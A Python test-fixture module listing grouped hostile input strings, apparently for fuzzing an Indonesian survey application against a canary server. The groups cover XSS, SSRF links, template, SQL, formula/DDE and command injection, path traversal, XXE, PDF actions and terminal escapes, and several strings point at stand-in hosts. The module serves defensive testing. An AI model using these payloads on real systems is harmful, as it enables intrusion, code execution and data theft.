"""Texts that try to be more than text: markup, script, formulas, queries, paths, addresses, controls, floods.

A script in them sets `window.__x` or opens a dialog; an address in them leads to CANARY, where a server counts calls.
"""

from __future__ import annotations

import re
import unicodedata
from typing import Final

CANARY: Final = "http://kenari.invalid"  # put a real address in its place with `hostile`

# fmt: off
SCRIPTS: Final = (
    "<script>window.__x=1</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=CANARY/a.js></script>",
    "</script><script>window.__x=1</script>", "<scr<script>ipt>window.__x=1</script>", "<script/x>alert(1)</script>",
    "</textarea><script>window.__x=1</script>", "</title><script>window.__x=1</script>", "</style><script>alert(1)",
    "<script type=module>import 'CANARY/m.js'</script>", "<script\n>window.__x=1</script\n>",
    "<noscript><p title='</noscript>", "<script>fetch('CANARY/f')</script>",
    "<script>new Image().src='CANARY/i'</script>", "<script>document.write(1)</script>",
)
ATTRIBUTES: Final = (
    "<img src=x onerror=window.__x=1>", '"><img src=x onerror=alert(1)>', "'><img src=CANARY/p.png onerror=alert(1)>",
    "<body onload=window.__x=1>", "<input autofocus onfocus=window.__x=1>",
    "<details open ontoggle=window.__x=1>x</details>", '" autofocus onfocus=window.__x=1 x="',
    "' onmouseover=window.__x=1 '", "` onmouseover=window.__x=1 `", "<video><source onerror=window.__x=1></video>",
    "<audio src=CANARY/a.ogg autoplay onerror=window.__x=1>", "<marquee onstart=window.__x=1>x</marquee>",
    "<a href=x onclick=window.__x=1 autofocus>x</a>", "<img/src=x/onerror=alert(1)>", "x onload=window.__x=1",
    '" style="background:url(CANARY/s.png)', '" accesskey="x" onclick="window.__x=1',
    "<iframe srcdoc='<script>parent.__x=1</script>'></iframe>", "<iframe src=CANARY/frame></iframe>",
    "<object data=CANARY/o>", "<embed src=CANARY/e>", "<form action=CANARY/post><button>Kirim</button></form>",
    "<base href=CANARY/>", "<meta http-equiv=refresh content='0;url=CANARY/r'>",
    "<link rel=stylesheet href=CANARY/l.css>", "<link rel=prefetch href=CANARY/pre>",
    "<portal src=CANARY/p></portal>", "<input name=id value=x>", "<form id=survei><input name=action>",
    "<a id=galat name=galat>x</a>",
)
SVG: Final = (
    "<svg onload=window.__x=1>", "<svg/onload=alert(1)>", "<svg><script>window.__x=1</script></svg>",
    "<svg><image href=CANARY/v.svg>", "<svg><use href='CANARY/u.svg#x'/></svg>",
    "<svg><animate onbegin=window.__x=1 attributeName=x dur=1s>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math><mtext><img src=x onerror=alert(1)></math>", "<svg><style>@import'CANARY/c.css'</style></svg>",
    "<svg><a href=javascript:window.__x=1><text y=9>x</text></a></svg>",
)
LINKS: Final = (
    "javascript:window.__x=1", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "javascript&colon;alert(1)",
    " javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>window.__x=1</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>", "file:///etc/passwd",
    "file://localhost/etc/hostname", "CANARY/halaman", "//kenari.invalid/x", "https://evil.example/x",
    "http://127.0.0.1:22/", "http://[::1]/", "http://0x7f000001/", "http://169.254.169.254/latest/meta-data/",
    "gopher://127.0.0.1:70/_x", "blob:null/x", "about:blank", "view-source:CANARY",
    "http://survei.contohkab.example@evil.example/", "https://evil.example#@survei.contohkab.example/",
    "\\\\evil.example\\berbagi",
)
STYLES: Final = (
    "</style><style>*{display:none}</style>", "<style>@import url(CANARY/i.css);</style>",
    "<style>body{background:url(CANARY/b.png)}</style>", "<p style=position:fixed;inset:0>x</p>",
    "x;background:url(CANARY/x.png)", "\\0022}*{color:red}", "}@page{size:1mm}",
    "<div style='width:expression(alert(1))'>", "@font-face{font-family:x;src:url(CANARY/f.ttf)}", "/* */ */",
    "\"}@top-left{content:'x'}",
)
TEMPLATES: Final = (
    "{{ 7*7 }}", "{{ config }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{% for x in range(9**9) %}x{% endfor %}", "{% raw %}",
    "{# x #}", "{% include '/etc/passwd' %}", "{{", "}}", "{% endblock %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "${jndi:ldap://kenari.invalid/x}", "{0.__class__}", "{ikm}", "%(nama)s", "%s%s%s%n%x", "$(id)", "`id`",
)
MARKDOWN: Final = (
    "[klik](javascript:alert(1))", "[klik](CANARY/k)", "![x](CANARY/m.png)", "![x](file:///etc/passwd)",
    "<CANARY/auto>", "[x]: CANARY/ref", "# Judul", "## 99 Judul palsu", "---", "***", "* satu\n* dua",
    "1. satu\n2. dua", "> kutipan", "    kode", "```\nkode\n```", "`kode`", "| a | b |\n|---|---|\n| 1 | 2 |",
    "a|b|c", "**tebal** _miring_ ~~coret~~", "{: .besar onclick=alert(1) }", "{: style=color:red }",
    "![x][1]\n\n[1]: CANARY/n.png", "&lt;script&gt;alert(1)&lt;/script&gt;", "\\<script\\>", "[TOC]",
    "</main></body>", "<!--", "-->", "<![CDATA[x]]>",
)
FORMULAS: Final = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("CANARY/h","klik")',
    '=WEBSERVICE("CANARY/w")', '=IMPORTXML("CANARY/x","//a")', '=IMAGE("CANARY/g.png")', '=DDE("cmd";"/C calc";"x")',
    "＝1+1", "=A1", "{=1+1}", "'=1+1", '"=1+1', "_x003D_1+1", "%0A-1+1", "=1+1;=1+1", "=1+1,=1+1",
)
CONTROLS: Final = (
    "\u202egnitirw", "a\u202db\u202c", "\u2066a\u2069", "\u2067b\u2069", "\u2068c", "\u200e\u200f", "\u061c",
    "\ufeff", "kata\u200bkata", "a\u200cb\u200dc", "\u2060", "\xad", "͏", "ᅟㅤ", "\ufff9a\ufffab\ufffb",
    "\U000e0041\U000e007f", "\ue000\uf8ff", "\x00", "a\x00b", "\x1b[2J\x1b[H", "\x1b]0;judul\x07",
    "\x1b]8;;CANARY\x07klik\x1b]8;;\x07", "\x9b31m", "\x08\x08\x08", "\x07", "\x7f", "\x0b\x0c", "\x01\x02\x03",
    "\x1a", "\x85", "a\rb", "baris\u2028satu", "baris\u2029satu", "\ufffe\uffff", "�", "\U0001fffe",
    "\x1b[31mBAIK\x1b[0m", "\x1bP0;1|17/6162\x1b\\", "\x1b[5i", "50 lembar disimpan.\r99 lembar",
    "\x1b[1A\x1b[2Kbaik",
)
SURROGATES: Final = (
    "\ud800", "a\udfffb", "\udc80\udcff", "\udf00\ud83c",
)
FLOODS: Final = (
    "x" * 300, "x" * 301, "kata " * 60, "A" * 10240, "saran " * 1700, "🙂" * 75, "👩\u200d👩\u200d👧\u200d👦" * 20,
    "é́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́",
    "z҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡҉͡",
    "็" * 150, "ا" * 120, "العربية نص من اليمين", "עברית", "ทดสอบ" * 12, "﷽" * 20, "\n" * 200, " " * 250, "\t" * 250,
    "<" * 300, "&" * 300, "(" * 250, "{" * 250, "9" * 300, "." * 300, "🏳️\u200d🌈🇮🇩", "𝓗𝓪𝓵𝓸 𝟙𝟚", "ﬁ ﬂ ㎏ Ⅷ ①", "ꜲꝎ᪰⃣",
)
HOMOGLYPHS: Final = (
    "раураl", "＜script＞alert(1)＜/script＞", "‹script›", "ⅼogin", "ѕkm.contohkab.example", "＂＞＜img＞",
    "KKelvin ſ İı",
)
QUERIES: Final = (
    "'; DROP TABLE response; --", "' OR '1'='1", '" OR ""="', "1); DELETE FROM saran; --",
    "x' UNION SELECT nonce FROM response --", "%", "_", "%' ESCAPE '\\", "*", "?", ":id", "$1", "\\'", "''", "'", '"',
    "`", "--", "/*", "ATTACH DATABASE 'x.db' AS x", "pg_sleep(9)", "\\x41", "COPY x FROM PROGRAM 'id'",
)
PATHS: Final = (
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "%2e%2e%2f%2e%2e%2f", "..%00/", "%00",
    "%0d%0aSet-Cookie:%20x=1", "~root", "a\r\nSet-Cookie: x=1", "a\r\n\r\n<script>window.__x=1</script>",
    "a\nLocation: CANARY/", "CON", "NUL.txt", "-rf", "--office", "; ls", "| cat /etc/passwd", "&& id", "$HOME", "\\",
    ".",
)
FORMATS: Final = (
    "a,b;c\td|e", '"a","b"', 'a"b""c', '"', "a,b\nc,d", '<?xml version="1.0"?>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', "&e;", "&amp;lt;", "&#0;", "&#x202e;x", "&nbsp;",
    "]]>", '","x":"', '"}', "\\u003cscript\\u003e", "\\", "\\n", '{"$ne":1}', "null", "NaN", "true", "[]",
    "__proto__", "constructor", "%PDF-1.7", "%!PS", "endstream endobj", "(x) Tj ET",
    "/JavaScript << /S /JavaScript /JS (app.alert(1)) >>", ") /URI (CANARY/pdf", ">> /OpenAction << /S /Launch",
    "<</JS(1)>>", "trailer\n%%EOF", "GIF89a/*", "PK\x03\x04", "#!/bin/sh", "\ufeffsep=;", "-----BEGIN PGP-----",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\x1b$B", "¼script¾", "%u003Cscript%u003E",
)
# fmt: on

GROUPS: Final = {
    "script": SCRIPTS,
    "attribute": ATTRIBUTES,
    "svg": SVG,
    "link": LINKS,
    "style": STYLES,
    "template": TEMPLATES,
    "markdown": MARKDOWN,
    "formula": FORMULAS,
    "control": CONTROLS,
    "surrogate": SURROGATES,
    "flood": FLOODS,
    "homoglyph": HOMOGLYPHS,
    "query": QUERIES,
    "path": PATHS,
    "format": FORMATS,
}
# What a form may hold that is no text at all: bytes that no UTF-8 has, as they stand behind the sign of equality.
NO_UTF8: Final = (
    b"%80",
    b"%c3",
    b"%c3%28",
    b"%ed%a0%80",
    b"%f5%80%80%80",
    b"%c0%af",
    b"%ff%fe<%00",
    b"\xff\xfe",
    b"\xc3(",
)
# What must not reach a terminal: it would move the cursor, clear lines, turn the direction of what is read.
RAW: Final = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff\ufffe\uffff\ud800-\udfff]"
)


def hostile(canary: str = CANARY) -> list[str]:
    """Return every text once, those with an address leading to `canary` (such as "http://127.0.0.1:4711")."""
    texts = [text for group in GROUPS.values() for text in group]
    return list(dict.fromkeys(text.replace("CANARY", canary) for text in texts))


def encodable(canary: str = CANARY) -> list[str]:
    """Return those that UTF-8 can write: what a file may hold."""
    return [text for text in hostile(canary) if not any(unicodedata.category(char) == "Cs" for char in text)]


def toml_text(text: str) -> str:
    """Return `text` as a TOML string of one line."""
    kept = (char if char.isprintable() and char not in '"\\' else f"\\U{ord(char):08x}" for char in text)
    return f'"{"".join(kept)}"'


def batches(texts: list[str], size: int) -> list[list[str]]:
    """Return the texts in lists of `size`, the last one shorter."""
    return [texts[start : start + size] for start in range(0, len(texts), size)]


def hostile_names(canary: str = CANARY) -> list[str]:
    """Return those that may be, or stand in, a name in office.toml: one line of what can be seen, of 300 letters."""
    seen = [
        text for text in encodable(canary) if text.strip() and not RAW.search(text) and not re.search(r"[\n\t]", text)
    ]
    return [text for text in seen if not text.strip().startswith(("=", "+", "-", "@")) and len(text) <= 300]
